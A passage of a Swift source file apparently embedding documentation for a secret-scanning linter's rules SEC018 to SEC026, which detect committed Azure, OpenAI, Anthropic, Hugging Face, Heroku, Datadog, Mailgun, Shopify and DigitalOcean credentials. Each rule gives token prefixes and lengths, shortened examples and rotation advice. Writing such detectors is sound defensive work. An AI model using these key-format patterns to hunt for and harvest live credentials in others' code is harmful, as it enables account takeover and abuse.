  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  trufflehog: "URI"
  checkov: "CKV_SECRET_4"
---
Reports passwords written inside database and broker connection URLs (`postgres://user:password@host`, MySQL, MariaDB, MongoDB and `mongodb+srv`, Redis, AMQP, SQL Server, ClickHouse, CockroachDB, CouchDB, Neo4j, `jdbc:` forms). Only the password is redacted; the message names the scheme and user.

## Detectors
| detector | matches |
|---|---|
| `database-url-password` | `postgres://`, `postgresql://`, `mysql://`, `mariadb://`, `mongodb://`, `mongodb+srv://`, `redis://`, `rediss://`, `amqp://`, `amqps://`, `mssql://`, `sqlserver://`, `clickhouse://`, `cockroachdb://`, `couchdb://`, `neo4j://` (optionally `jdbc:`) URLs with `user:password@` |

## Why
A connection URL is copied into logs, error messages, process lists and support tickets; with the password in it, every copy is a credential. Interpolated (`${DB_PASSWORD}`) and placeholder passwords are not reported, nor are the well-known defaults of database images (`postgres`, `password`, `root`, `guest`…) or a password equal to the user name: those are not leaked secrets but unset ones, which the compose and Kubernetes rules about hard-coded credentials report.

## How to fix
Change the database password, then assemble the URL at run time from a secret (`postgres://app:${DB_PASSWORD}@db/app` in compose, a Secret-backed env var in Kubernetes) or use the driver's separate password setting.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
environment:
  DATABASE_URL: postgres://app:s3…@db:5432/app
```

Not reported:

```yaml
environment:
  DATABASE_URL: postgres://app:${DB_PASSWORD:?set DB_PASSWORD}@db:5432/app
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC018.md", text: ###"""
---
id: SEC018
title: Azure storage or shared access key committed
kind: any
severity: error
tags: [security]
security-severity: 8.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://learn.microsoft.com/azure/storage/common/storage-configure-connection-string
  - https://learn.microsoft.com/azure/storage/common/storage-use-azurite
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  trufflehog: "AzureStorage"
  checkov: "CKV_SECRET_3"
---
Reports storage account keys in connection strings (`AccountKey=` and 88 base64 characters) and Service Bus / Event Hubs / IoT Hub shared access keys (`SharedAccessKey=`). The Azurite emulator's published development key is not reported.

## Detectors
| detector | matches |
|---|---|
| `azure-storage-account-key` | `AccountKey=` and an 88-character base64 key (storage connection strings) |
| `azure-shared-access-key` | `SharedAccessKey=` and a 44-character base64 key (Service Bus, Event Hubs, IoT Hub connection strings) |

## Why
An account key is full control of the storage account: every blob, queue and table, and the power to mint SAS tokens.

## How to fix
Rotate the key (Access keys → Rotate), then use Microsoft Entra ID with managed identities, or read the connection string from Key Vault at run time.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dotenv
AZURE_STORAGE_CONNECTION_STRING=DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=…==
```

Not reported:

```dotenv
AZURE_STORAGE_ACCOUNT=acme   # the app authenticates with its managed identity
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC019.md", text: ###"""
---
id: SEC019
title: OpenAI API key committed
kind: any
severity: error
tags: [security]
security-severity: 7.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://platform.openai.com/docs/api-reference/authentication
  - https://help.openai.com/en/articles/5112595-best-practices-for-api-key-safety
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "openai-api-key"
  trufflehog: "OpenAI"
---
Reports OpenAI API keys: keys carrying OpenAI's `T3BlbkFJ` marker (legacy `sk-…` and `sk-proj-…`) and project, service-account and admin keys (`sk-proj-`, `sk-svcacct-`, `sk-admin-`).

## Detectors
| detector | matches |
|---|---|
| `openai-api-key` | `sk-` (optionally `proj-`, `svcacct-`, `admin-`) keys carrying OpenAI's `T3BlbkFJ` marker |
| `openai-project-key` | `sk-proj-`, `sk-svcacct-`, `sk-admin-` and 40+ URL-safe characters |

## Why
API keys are billed per use and commonly abused within hours of exposure; admin keys also manage your organization.

## How to fix
Delete the key in the OpenAI dashboard (API keys), create a project-scoped key, and inject it from the environment or a secret store.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
environment:
  OPENAI_API_KEY: sk-proj-…
```

Not reported:

```yaml
environment:
  OPENAI_API_KEY: ${OPENAI_API_KEY:?set OPENAI_API_KEY}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC020.md", text: ###"""
---
id: SEC020
title: Anthropic API key committed
kind: any
severity: error
tags: [security]
security-severity: 7.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://docs.anthropic.com/en/api/overview#authentication
  - https://support.anthropic.com/en/articles/9767949-api-key-best-practices-keeping-your-keys-safe-and-secure
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "anthropic-api-key, anthropic-admin-api-key"
  trufflehog: "Anthropic"
---
Reports Anthropic API and admin keys (`sk-ant-api03-…`, `sk-ant-admin01-…`).

## Detectors
| detector | matches |
|---|---|
| `anthropic-api-key` | `sk-ant-api03-`, `sk-ant-admin01-` (and other `sk-ant-<kind><nn>-`) with 80+ URL-safe characters |

## Why
API keys are billed per use; admin keys manage the organization's keys and members.

## How to fix
Delete the key in the Anthropic Console (Settings → API keys) and inject a new one at run time.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dockerfile
ENV ANTHROPIC_API_KEY=sk-ant-api03-…
```

Not reported:

```dockerfile
# docker run -e ANTHROPIC_API_KEY …
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC021.md", text: ###"""
---
id: SEC021
title: Hugging Face token committed
kind: any
severity: error
tags: [security]
security-severity: 7.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://huggingface.co/docs/hub/security-tokens
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "huggingface-access-token, huggingface-organization-api-token"
  trufflehog: "HuggingFace"
---
Reports Hugging Face user access tokens (`hf_` and 34 letters) and organization tokens (`api_org_` and 34 letters).

## Detectors
| detector | matches |
|---|---|
| `huggingface-access-token` | `hf_` and 34 letters |
| `huggingface-org-token` | `api_org_` and 34 letters |

## Why
A write token can push models and datasets (a poisoned model is a supply-chain attack); read tokens expose private and gated repositories.

## How to fix
Invalidate the token in Hugging Face settings (Access Tokens), use fine-grained read-only tokens where possible, and mount the token as a build or run-time secret.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dockerfile
ENV HF_TOKEN=hf_…
```

Not reported:

```dockerfile
# syntax=docker/dockerfile:1
RUN --mount=type=secret,id=hf_token,env=HF_TOKEN huggingface-cli download acme/model
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC022.md", text: ###"""
---
id: SEC022
title: Heroku API key committed
kind: any
severity: error
tags: [security]
security-severity: 8.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://devcenter.heroku.com/articles/authentication
  - https://devcenter.heroku.com/articles/platform-api-quickstart
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "heroku-api-key"
  trufflehog: "Heroku"
---
Reports Heroku API keys: the `HRKU-` format and legacy UUID keys assigned to a key naming Heroku (`HEROKU_API_KEY`).

## Detectors
| detector | matches |
|---|---|
| `heroku-api-key` | `HRKU-` and 40–80 URL-safe characters |
| `heroku-api-key-legacy` | a UUID assigned to a key naming Heroku and a key, token or secret (`HEROKU_API_KEY`) |

## Why
A Heroku API key controls every app the account can reach: config vars (and the secrets in them), deploys, add-ons and billing.

## How to fix
Regenerate the key (Account settings → API key, or `heroku authorizations:revoke`), and store it as a CI secret.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
env:
  HEROKU_API_KEY: <uuid>
```

Not reported:

```yaml
env:
  HEROKU_API_KEY: ${{ secrets.HEROKU_API_KEY }}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC023.md", text: ###"""
---
id: SEC023
title: Datadog API or application key committed
kind: any
severity: error
tags: [security]
security-severity: 6.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://docs.datadoghq.com/account_management/api-app-keys/
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "datadog-access-token"
  trufflehog: "DatadogToken"
---
Reports Datadog API keys (32 hex digits) and application keys (40 hex digits) assigned to `DD_API_KEY`, `DD_APP_KEY`, `datadog_api_key` and similar keys.

## Detectors
| detector | matches |
|---|---|
| `datadog-api-key` | 32 (API key) or 40 (application key) hex digits assigned to `DD_API_KEY`, `DD_APP_KEY`, `datadog_api_key`… |

## Why
An API key submits metrics, logs and events into your account (cost and poisoned monitoring); an application key reads your data and changes monitors and dashboards.

## How to fix
Revoke the key in Organization Settings → API Keys / Application Keys and provide the agent its key from a Secret (`DD_API_KEY` via `secretKeyRef`, or the Helm chart's `apiKeyExistingSecret`).

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```yaml
environment:
  DD_API_KEY: <32 hex digits>
```

Not reported:

```yaml
environment:
  DD_API_KEY: ${DD_API_KEY:?set DD_API_KEY}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC024.md", text: ###"""
---
id: SEC024
title: Mailgun API key committed
kind: any
severity: error
tags: [security]
security-severity: 7.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://documentation.mailgun.com/docs/mailgun/api-reference/authentication/
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "mailgun-private-api-token"
  trufflehog: "Mailgun"
---
Reports Mailgun private API keys (`key-` and 32 hex digits).

## Detectors
| detector | matches |
|---|---|
| `mailgun-api-key` | `key-` and 32 hex digits |

## Why
The private key sends mail from your domains and reads logs of what you sent, recipients included.

## How to fix
Rotate the key in the Mailgun control panel (API Security) and inject it at run time.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dotenv
MAILGUN_API_KEY=key-…
```

Not reported:

```dotenv
MAILGUN_API_KEY=${MAILGUN_API_KEY}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC025.md", text: ###"""
---
id: SEC025
title: Shopify access token committed
kind: any
severity: error
tags: [security]
security-severity: 8.0
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://shopify.dev/docs/apps/build/authentication-authorization/access-tokens
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "shopify-access-token, shopify-custom-access-token, shopify-private-app-access-token, shopify-shared-secret"
  trufflehog: "Shopify"
---
Reports Shopify access tokens and shared secrets (`shpat_`, `shpca_`, `shppa_`, `shpss_` and 32 hex digits).

## Detectors
| detector | matches |
|---|---|
| `shopify-access-token` | `shpat_`, `shpca_`, `shppa_`, `shpss_` and 32 hex digits |

## Why
An Admin API token reads and changes the store: orders, customers' personal data, products and payouts settings.

## How to fix
Uninstall and reinstall the app (or rotate the custom app's token) to invalidate it, and keep the new token in a secret store.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```dotenv
SHOPIFY_ACCESS_TOKEN=shpat_…
```

Not reported:

```dotenv
SHOPIFY_ACCESS_TOKEN=${SHOPIFY_ACCESS_TOKEN}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
  `# specql-deploy ignore=SEC0xx reason="…"` on the line before or at the end of the line (in HCL also `//`
  and `/* */`). The text of a suppression comment is never scanned. Comment syntax follows the kind: a
  leading `#` in Dockerfiles, `#` after a blank and outside quotes in YAML and `.env`, `#`, `//`, `/*` outside
  strings in HCL.
- **Placeholders and references are not secrets**: `${VAR}`, `$VAR`, `${{ secrets.X }}`, `{{ .Values.x }}`,
  `<…>`, values containing `example`, `changeme`, `change-me`, `placeholder`, `dummy`, `fake`, `sample`,
  `redacted`, `xxxx`, `***`, `...`, `your-…`, `…-here`, `REPLACE_ME`, `todo`, one or two characters repeated,
  paths (`/run/secrets/x`), secret-store references (`arn:`, `op://`, `vault:`, `projects/…/secrets/…`),
  and published sample values (AWS's `AKIAIOSFODNN7EXAMPLE`, the Azurite development key, the jwt.io sample
  and Supabase demo tokens). The allow-list with the reason for each entry is
  `Sources/LintEngine/Secrets/SecretAllowList.swift`.
- **Overlaps.** When two detectors see the same value (`GITHUB_TOKEN=ghp_…` is also a secret-named
  assignment), the specific format wins and the generic SEC029 stays silent, even if the specific rule is
  disabled.
"""###),
        EmbeddedDocument(path: "Rules/secrets/SEC026.md", text: ###"""
---
id: SEC026
title: DigitalOcean token committed
kind: any
severity: error
tags: [security]
security-severity: 8.5
references:
  - "CWE-798: Use of Hard-coded Credentials"
  - https://docs.digitalocean.com/reference/api/create-personal-access-token/
  - "CIS Docker Benchmark 4.10: Ensure secrets are not stored in Dockerfiles"
equivalents:
  gitleaks: "digitalocean-pat, digitalocean-access-token, digitalocean-refresh-token"
---
Reports DigitalOcean personal access, OAuth and refresh tokens (`dop_v1_`, `doo_v1_`, `dor_v1_` and 64 hex digits), typically in a Terraform `provider "digitalocean"` block.

## Detectors
| detector | matches |
|---|---|
| `digitalocean-token` | `dop_v1_`, `doo_v1_`, `dor_v1_` and 64 hex digits |

## Why
A write token creates, reads and destroys droplets, databases, Spaces and DNS records in the team.

## How to fix
Delete the token (API → Tokens), then pass it to OpenTofu through `DIGITALOCEAN_TOKEN` or a `sensitive` variable.

## Example
Reported (values shortened here; a finding shows only the redacted form such as `ghp_… (40 chars)`):

```hcl
provider "digitalocean" {
  token = "dop_v1_…"
}
```

Not reported:

```hcl
variable "do_token" {
  type      = string
  sensitive = true
}

provider "digitalocean" {
  token = var.do_token
}
```

## How the scanner reads your file
The SEC rules share one scanner that runs over every linted file — Dockerfiles, compose files, Kubernetes
manifests, GitHub workflows, HCL and `.env*` files — reading its text, so a secret is found even in a file
that does not parse. A prefilter looks for each detector's anchors (`ghp_`, `AKIA`, `password`…) in one pass;
only lines holding one are matched against the detectors' PCRE2 patterns (JIT-compiled once).

- **A secret is never printed.** Messages show a redacted form — the first four characters, an ellipsis and
  the length, e.g. `ghp_… (40 chars)` (at most a quarter of a short value) — and every reporter masks the
  secret's characters in code frames; JSON, SARIF, JUnit and GitHub annotations carry no source text.
- **Comments.** A secret in a comment is still reported (it is still committed) and the message says so. A
  comment beside a value never clears it — `TOKEN=… # example` is reported; only a suppression does:
